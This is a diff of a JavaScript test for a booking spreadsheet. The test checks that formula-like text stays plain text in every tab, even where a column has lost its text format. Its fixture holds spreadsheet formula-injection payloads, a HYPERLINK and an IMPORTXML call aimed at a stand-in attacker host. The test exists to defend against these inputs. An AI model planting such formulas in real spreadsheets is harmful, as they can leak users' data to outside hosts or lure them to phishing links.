@@ -114,11 +114,14 @@ describe('a row with problems', () => {
 });
 
 describe('text that looks like a formula', () => {
-  it('never becomes one, in any tab', async () => {
+  it('never becomes one, in any tab, even where a column has lost its text format', async () => {
+    const kanban = desk.sheet('Kanban');
+    const card = { row: 2, column: 2, rows: kanban.data.rows - 1, columns: 1 };
+    kanban.update(card, ({ numberFormat: _text, ...cell }) => cell);
     const formula = '=HYPERLINK("https://evil.example","Click")';
     desk.add({
       'Booking ID': '-FORMULA',
-      Source: '+SUM(1,2)',
+      Source: '=SUM(1,2)',
       Boat: '@Boat',
       Guest: formula,
       'Guest notes': '=IMPORTXML("https://evil.example","/")',
@@ -127,8 +130,8 @@ describe('text that looks like a formula', () => {
     });
     await desk.publish('-FORMULA');
     expect(desk.row('-FORMULA')).toMatchObject({ Guest: formula, State: 'Published', Problem: '' });
-    expect(desk.card('-FORMULA')?.Card).toMatch(/^\+SUM\(1,2\) — /);
-    expect(desk.board()['New Bookings']?.join('\n')).toContain('+SUM(1,2) — ');
+    expect(desk.card('-FORMULA')?.Card).toMatch(/^=SUM\(1,2\) — /);
+    expect(desk.board()['New Bookings']?.join('\n')).toContain('=SUM(1,2) — ');
 
     for (const { data } of desk.system.workbook.sheets()) {
       const formulas = data.cells.flatMap((cells) => cells.flatMap((cell) => cell?.formula ?? []));
